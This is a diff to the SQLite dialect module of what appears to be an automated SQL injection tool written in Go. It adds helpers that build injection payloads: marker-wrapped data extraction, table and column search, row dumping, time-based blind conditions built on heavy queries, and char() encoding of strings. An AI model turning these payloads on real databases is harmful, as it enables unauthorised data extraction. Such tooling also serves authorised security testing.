@@ -2,6 +2,7 @@ package dbms
 
 import (
 	"fmt"
+	"strconv"
 	"strings"
 )
 
@@ -38,6 +39,18 @@ func (s *SQLite) Char(code int) string {
 	return fmt.Sprintf("char(%d)", code)
 }
 
+// WrapWithMarkers returns char(126)||(query)||char(126).
+func (s *SQLite) WrapWithMarkers(query string) string {
+	return s.Concatenate(s.Char(126), "("+query+")", s.Char(126))
+}
+
+// WrapRowsWithMarkers aggregates the rows with group_concat, which skips
+// NULLs; a NULL row concatenates to NULL.
+func (s *SQLite) WrapRowsWithMarkers(column, from string) string {
+	return fmt.Sprintf("char(126)||(SELECT COUNT(%s) FROM %s)||char(126)||(SELECT COALESCE(group_concat((%s)||char(126),''),'') FROM %s)",
+		column, from, column, from)
+}
+
 func (s *SQLite) VersionQuery() string {
 	return "sqlite_version()"
 }
@@ -56,6 +69,11 @@ func (s *SQLite) HostnameQuery() string {
 	return "'localhost'"
 }
 
+func (s *SQLite) IsDBAQuery() string {
+	// SQLite has no privileges: whoever can query the file owns it
+	return "1"
+}
+
 func (s *SQLite) ListDatabasesQuery() string {
 	// SQLite uses ATTACH for multiple databases; main is always "main"
 	return "SELECT name FROM pragma_database_list"
@@ -67,30 +85,51 @@ func (s *SQLite) ListTablesQuery(_ string) string {
 }
 
 func (s *SQLite) ListColumnsQuery(_, table string) string {
-	return fmt.Sprintf("SELECT name FROM pragma_table_info('%s')", table)
+	return fmt.Sprintf("SELECT name FROM pragma_table_info(%s)", s.QuoteString(table))
+}
+
+func (s *SQLite) SearchTablesQuery(keyword string) string {
+	// Tables of the main database, named as ListDatabasesQuery names it
+	return "SELECT 'main.'||name FROM sqlite_master WHERE type='table' AND LOWER(name) LIKE " + containsPattern(s, keyword)
+}
+
+func (s *SQLite) SearchColumnsQuery(keyword string) string {
+	return "SELECT 'main.'||m.name||'.'||p.name FROM sqlite_master m, pragma_table_info(m.name) p WHERE m.type='table' AND LOWER(p.name) LIKE " +
+		containsPattern(s, keyword)
 }
 
 func (s *SQLite) CountRowsQuery(_, table string) string {
-	return fmt.Sprintf("SELECT COUNT(*) FROM %s", table)
+	return "SELECT COUNT(*) FROM " + s.QualifyTable("", table)
+}
+
+func (s *SQLite) QualifyTable(_, table string) string {
+	return s.QuoteIdentifier(table)
 }
 
 func (s *SQLite) DumpQuery(_ string, table string, columns []string, offset, limit int) string {
 	cols := strings.Join(columns, ",")
-	return fmt.Sprintf("SELECT %s FROM %s LIMIT %d OFFSET %d", cols, table, limit, offset)
+	return s.LimitOffset(fmt.Sprintf("SELECT %s FROM %s", cols, s.QualifyTable("", table)), offset, limit)
+}
+
+func (s *SQLite) LimitOffset(query string, offset, limit int) string {
+	return fmt.Sprintf("%s LIMIT %d OFFSET %d", query, limit, offset)
 }
 
+// SelectRow pages with LimitOffset.
+func (s *SQLite) SelectRow(column, from string, row int) string {
+	return s.LimitOffset(fmt.Sprintf("SELECT %s FROM %s", column, from), row, 1)
+}
+
+// DualTable returns "": SQLite needs no FROM clause.
+func (s *SQLite) DualTable() string { return "" }
+
 func (s *SQLite) ErrorPayloads() []PayloadTemplate {
-	// SQLite does not produce rich error messages by default; error-based
-	// injection is limited. The most reliable method is boolean-blind or UNION.
-	return []PayloadTemplate{
-		{
-			Name:     "cast",
-			Template: "CAST(({{.Query}}) AS integer)",
-			DBMS:     "SQLite",
-		},
-	}
+	return errorPayloadsFor("SQLite")
 }
 
+// ErrorChunkSize returns 0: values are not read in chunks on SQLite.
+func (s *SQLite) ErrorChunkSize() int { return 0 }
+
 // SleepFunction returns a SQLite heavy query that approximates a delay.
 // SQLite has no SLEEP() function; randomblob() with a large argument forces
 // CPU work that approximates a delay (accuracy is environment-dependent).
@@ -107,6 +146,12 @@ func (s *SQLite) HeavyQuery() string {
 	return "SELECT COUNT(*) FROM (SELECT randomblob(1000000) FROM sqlite_master)"
 }
 
+// SleepIf returns 1=(CASE WHEN (condition) THEN SleepFunction ELSE 1 END).
+// Only the delay of the heavy query matters, not whether the result holds.
+func (s *SQLite) SleepIf(condition string, seconds int) string {
+	return fmt.Sprintf("1=(CASE WHEN (%s) THEN %s ELSE 1 END)", condition, s.SleepFunction(seconds))
+}
+
 func (s *SQLite) IfThenElse(condition, trueExpr, falseExpr string) string {
 	return fmt.Sprintf("CASE WHEN %s THEN %s ELSE %s END", condition, trueExpr, falseExpr)
 }
@@ -115,6 +160,23 @@ func (s *SQLite) QuoteString(str string) string {
 	return "'" + strings.ReplaceAll(str, "'", "''") + "'"
 }
 
+func (s *SQLite) QuoteIdentifier(name string) string {
+	return `"` + strings.ReplaceAll(name, `"`, `""`) + `"`
+}
+
+func (s *SQLite) HexString(str string) string {
+	return s.CharEncode(str)
+}
+
+// CharEncode returns str as char(c1,c2,...): SQLite's char takes any number
+// of code points.
+func (s *SQLite) CharEncode(str string) string {
+	if str == "" {
+		return s.QuoteString(str)
+	}
+	return "char(" + charCodes(str, ",", func(r rune) string { return strconv.Itoa(int(r)) }) + ")"
+}
+
 func (s *SQLite) CommentSequence() string {
 	return "-- "
 }